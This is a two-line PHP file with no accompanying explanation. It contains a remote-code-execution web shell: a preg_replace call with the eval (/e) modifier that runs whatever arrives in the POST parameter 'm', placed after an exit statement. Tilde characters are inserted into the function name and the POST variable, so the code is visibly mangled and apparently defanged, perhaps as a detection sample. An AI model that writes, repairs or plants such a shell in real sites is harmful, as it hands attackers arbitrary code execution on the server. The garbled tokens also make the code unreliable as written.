<?php exit; ?>
<?php pre~g_replace('/.*/e', $_P~OST['m'], 'MARKER');
